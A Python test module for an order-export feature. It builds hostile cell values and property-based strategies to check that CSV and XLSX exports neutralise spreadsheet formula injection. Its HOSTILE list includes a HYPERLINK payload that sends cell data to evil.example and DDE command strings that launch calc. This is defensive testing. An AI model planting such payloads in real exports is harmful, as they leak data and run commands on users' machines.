"""Tables of orders for tests: files read back, and what customers write to break them."""

import csv
import io
import re
import shutil
import subprocess
import unicodedata
from zoneinfo import ZoneInfo

import pytest
from hypothesis import strategies as st

from wagtail_orders.exports import Selection
from wagtail_orders.models import Order

BRUSSELS = ZoneInfo("Europe/Brussels")

#: Texts that some program takes for a formula, a command, an error, or the end of something.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Total")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "　=1+1",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "#NAME?",
    "#BEZUG!",
    "x;=1+1",
    'x,=HYPERLINK("http://evil.example")',
    'x"\r\n=CMD("calc")',
    "+32 475 12 34 56",
    "-",
    "'=1+1",
    '"=1+1"',
    "]]>",
    "<![CDATA[",
    "&amp;&lt;",
    "</t></is></c>",
    "_x000D_",
    "_x005F_x000D_",
    "two\nlines",
    "two\r\nlines",
    " spaces ",
    "01067",
    "1E5",
    "TRUE",
    "é\u0301 🎈 \U0001f1e7\U0001f1ea",
    "\ufffe\uffff",
    "\x01\x0b\x0c\x1f\x7f\x85",
]
#: What no database takes in a column, but a JSON field's text may hold.
UNSTORABLE = ["\0", "\0=1+1", "\ud800", "a\udfffb"]

hostile_texts = st.one_of(
    st.text(st.characters(exclude_categories=())),
    st.lists(
        st.one_of(
            st.sampled_from(HOSTILE + UNSTORABLE),
            st.sampled_from(list("=+-@#,;|\t\r\n\"' \0(!_x0D")),
            st.text(max_size=3),
        ),
        max_size=4,
    ).map("".join),
)


def computes(text):
    """Whether a spreadsheet would compute something of what it finds in a cell, whatever it strips before."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    begun = text.lstrip("".join(char for char in set(text) if is_stripped(char)))
    return unicodedata.normalize("NFKC", begun[:1]) in {"=", "+", "-", "@"}


def is_stripped(char):
    return char.isspace() or unicodedata.category(char) == "Cc" or char in "\u200b\u2060\ufeff"


def selection(*orders, **facts):
    """Of these orders, or all; for Brussels and in English unless said otherwise."""
    found = Order.objects.filter(pk__in=[order.pk for order in orders]) if orders else Order.objects.all()
    return Selection.of(found, **{"time_zone": BRUSSELS, **facts})


def csv_rows(content, separator=","):
    """What the csv module reads."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(
        csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True)
    )


def unescaped(text):
    """A workbook's text without its own escapes (ECMA-376, ST_Xstring), which openpyxl leaves in."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda escape: chr(int(escape[1], 16)), text)


def opened_by_libreoffice(folder, name, *options):
    """What LibreOffice makes of a file: a workbook as it saves it, read by openpyxl."""
    openpyxl = pytest.importorskip("openpyxl")
    soffice = shutil.which("soffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) is not installed")
    saved = folder / "saved"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            *options,
            "--convert-to",
            "xlsx",
            "--outdir",
            saved,
            folder / name,
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return openpyxl.load_workbook((saved / name).with_suffix(".xlsx"))
